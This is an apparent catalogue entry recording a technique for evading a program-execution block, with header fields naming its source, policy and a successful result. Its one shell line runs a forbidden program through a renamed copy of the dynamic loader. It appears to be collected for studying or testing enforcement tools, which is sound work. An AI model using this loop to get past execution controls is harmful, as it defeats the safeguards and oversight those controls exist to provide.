# technique: runs the forbidden program by a copy of the dynamic loader under another name
# source: Ona Veto blog, step 5
# success: the forbidden program ran
# policy: vault
# control: permissive
# event: FileOpenReadOnly
for loader in /lib64/ld-linux-*.so.*; do cp $loader innocent && ./innocent ./forbidden; done
